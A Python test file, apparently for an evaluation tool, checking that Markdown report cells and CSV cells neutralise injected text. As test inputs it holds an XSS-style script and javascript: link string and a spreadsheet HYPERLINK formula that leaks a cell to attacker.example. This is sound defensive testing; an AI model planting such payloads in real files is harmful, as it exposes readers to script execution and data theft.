"""Text from data, servers, sweep files and folder names cannot break out of a Markdown cell or run as a
spreadsheet formula (#39, 8 and 9): core.text's md_text and csv_cell, and the files that use them."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support.boards import merged, row
from support.cli import eval_args, run_cli
from support.datagen import PROMPT_TEMPLATE, doccount_reply, doccount_rows, write_doccount
from support.openai_test_server import TestServer

from evaluator.core.text import FORMULA_STARTS, csv_cell, md_code, md_text
from evaluator.report.leaderboard import leaderboard_markdown
from evaluator.scoring.leaderboard import BoardRun, build_leaderboard

HOSTILE = "x|y\n# injected <script>alert(1)</script> [a](javascript:alert(1)) `code` \\| ![i](http://h/i.png)"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'

# any text, with the characters that matter for Markdown and CSV much more often than chance
TEXT = st.text(
    alphabet=st.one_of(
        st.sampled_from([*"|\\<>[]()`!\n\r\t=+-@ aZ:&#;*_", "\u2028", "\x0b", "\x85"]),
        st.characters(),
    ),
    max_size=40,
)


def unescaped_pipes(line: str) -> int:
    """Pipes a GFM table splits on: not preceded by an odd number of backslashes."""
    return sum(1 for m in re.finditer(r"(\\*)\|", line) if len(m.group(1)) % 2 == 0)


@given(TEXT)
@settings(max_examples=400, deadline=None)
def test_a_markdown_cell_is_one_line_without_html_links_or_table_breaks(text: str) -> None:
    cell = md_text(text)
    assert len(cell.splitlines()) <= 1 and "\n" not in cell and "\r" not in cell
    assert unescaped_pipes(cell) == 0
    assert "<" not in cell and "](" not in cell and "`" not in cell
    assert "[" not in cell and "]" not in cell
    # a table built of such cells keeps its column count on every row
    table = [f"| {md_text(text)} | b | {md_text(text[::-1])} |", "| --- | --- | --- |", f"| a | {cell} | c |"]
    assert {unescaped_pipes(line) for line in table} == {4}


@given(TEXT)
@settings(max_examples=200, deadline=None)
def test_inline_code_is_used_only_when_it_holds_the_text(text: str) -> None:
    out = md_code(text)
    assert "\n" not in out and "\r" not in out and unescaped_pipes(out) == 0
    if out.startswith("`"):
        assert out == f"`{text}`" and "`" not in text


@pytest.mark.parametrize(
    "text", ["qwen2-vl-7b_doccount", "Qwen/Qwen2-VL-7B-Instruct", "Chart / Graph", "a_b*c"]
)
def test_ordinary_text_keeps_its_bytes(text: str) -> None:
    assert md_text(text) == text and md_code(text) == f"`{text}`"


@given(st.one_of(TEXT, st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
@settings(max_examples=300, deadline=None)
def test_a_csv_text_cell_never_starts_a_formula_and_numbers_are_untouched(value: object) -> None:
    out = csv_cell(value)
    if isinstance(value, str):
        assert not out.startswith(FORMULA_STARTS)
        assert out == value or out == "'" + value
        assert (out != value) == value.startswith(FORMULA_STARTS)
    else:
        assert out is value  # -3 stays the number -3


def test_leaderboard_md_keeps_published_source_note_names_and_models_in_their_cells() -> None:
    rows_a = [row(i, i % 2 == 0) for i in range(8)]
    rows_b = [row(i, True) for i in range(8)]
    for r in rows_b:
        r["groups"] = {"target_class": HOSTILE}
        r["target_class"] = HOSTILE
    published = {"correct": 5, "questions": 8, "source": HOSTILE, "note": HOSTILE}
    runs = [
        BoardRun(HOSTILE, merged(rows_a, model=HOSTILE), "javascript:alert(1)/r.html", None, published),
        BoardRun("plain", merged(rows_b), None),
    ]
    board = build_leaderboard(runs, resamples=200)
    board["title"] = HOSTILE
    md = leaderboard_markdown(board)
    lines = md.splitlines()
    assert not any(line.startswith("# injected") for line in lines)
    assert "<script" not in md.lower() and "](javascript" not in md.lower() and "![" not in md
    links = re.findall(r"\]\(([^)]*)\)", md)
    assert links == ["./javascript%3Aalert%281%29/r.html"], links
    for block in re.split(r"\n\s*\n", md):  # every table: one column count on every row
        table = [line for line in block.splitlines() if line.startswith("|")]
        if table:
            assert len({unescaped_pipes(line) for line in table}) == 1, table
    notes = [line for line in lines if line.startswith("- ")]
    assert notes and all("\\|" in n and "&lt;script>" in n for n in notes)


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> SimpleNamespace:
    """A real run whose data carries a formula sample id, a formula question and a hostile class name."""
    base = tmp_path_factory.mktemp("hostile-data")
    rows = doccount_rows(4)
    rows[0]["sample_id"] = FORMULA
    rows[1]["question"] = "+SUM(1,2) how many?"
    rows[2]["question"] = "-2+3"
    rows[3]["target_class"] = HOSTILE
    for r in rows:
        r["prompt"] = PROMPT_TEMPLATE.format(
            target_class=r["target_class"], class_definition=r["class_definition"], question=r["question"]
        )
    data = base / "data" / "test-00000-of-00001.parquet"
    write_doccount(data, rows)
    run = base / "run"
    with TestServer() as srv:
        srv.set_config({"answers": doccount_reply(rows, wrong={rows[1]["sample_id"]})})
        res = run_cli("evaluate", *eval_args(srv.base_url, str(base / "data" / "*.parquet"), run), "--quiet")
        assert res.returncode == 0, res.stderr
    res = run_cli("score", "--run-root", str(run))
    assert res.returncode == 0, res.stderr
    res = run_cli("report", "--run-root", str(run), "--data-files", str(base / "data" / "*.parquet"))
    assert res.returncode == 0, res.stderr
    return SimpleNamespace(run=run, rows=rows)


def test_per_question_csv_neutralises_formulas_from_the_data(hostile_run: SimpleNamespace) -> None:
    text = (hostile_run.run / "scores" / "per_question.csv").read_text(encoding="utf-8")
    table = list(csv.reader(io.StringIO(text)))
    head, body = table[0], table[1:]
    assert all(not cell.startswith(FORMULA_STARTS) for line in table for cell in line), body
    by_id = {line[head.index("sample_id")]: dict(zip(head, line, strict=True)) for line in body}
    assert "'" + FORMULA in by_id
    questions = {line[head.index("question")] for line in body}
    assert {"'+SUM(1,2) how many?", "'-2+3"} <= questions
    # numbers are written as numbers: the wrong answer's count and the token counts are plain digits
    assert all(re.fullmatch(r"-?\d+", r["ground_truth"]) for r in by_id.values())


def test_summary_md_keeps_a_hostile_group_value_in_its_cell(hostile_run: SimpleNamespace) -> None:
    md = (hostile_run.run / "scores" / "summary.md").read_text(encoding="utf-8")
    lines = md.splitlines()
    assert not any(line.startswith("# injected") for line in lines)
    assert "<script" not in md.lower() and "](javascript" not in md.lower()
    for block in re.split(r"\n\s*\n", md):
        table = [line for line in block.splitlines() if line.startswith("|")]
        if table:
            assert len({unescaped_pipes(line) for line in table}) == 1, table
    assert md_text(HOSTILE) in md


def test_ordinary_outputs_are_unchanged_by_the_escaping(tmp_path: Path) -> None:
    """summary.md and per_question.csv of an ordinary run carry no escape (their bytes are as before)."""
    rows = doccount_rows(4)
    write_doccount(tmp_path / "data" / "test-00000-of-00001.parquet", rows)
    with TestServer() as srv:
        srv.set_config({"answers": doccount_reply(rows, wrong={rows[0]["sample_id"]})})
        res = run_cli(
            "evaluate", *eval_args(srv.base_url, str(tmp_path / "data" / "*.parquet"), tmp_path / "r")
        )
        assert res.returncode == 0, res.stderr
    assert run_cli("score", "--run-root", str(tmp_path / "r")).returncode == 0
    md = (tmp_path / "r" / "scores" / "summary.md").read_text(encoding="utf-8")
    csv_text = (tmp_path / "r" / "scores" / "per_question.csv").read_text(encoding="utf-8")
    assert "&#" not in md and "&lt;" not in md and "\\|" not in md and "(run `r`)" in md
    assert "'" not in csv_text.replace("'s", "")
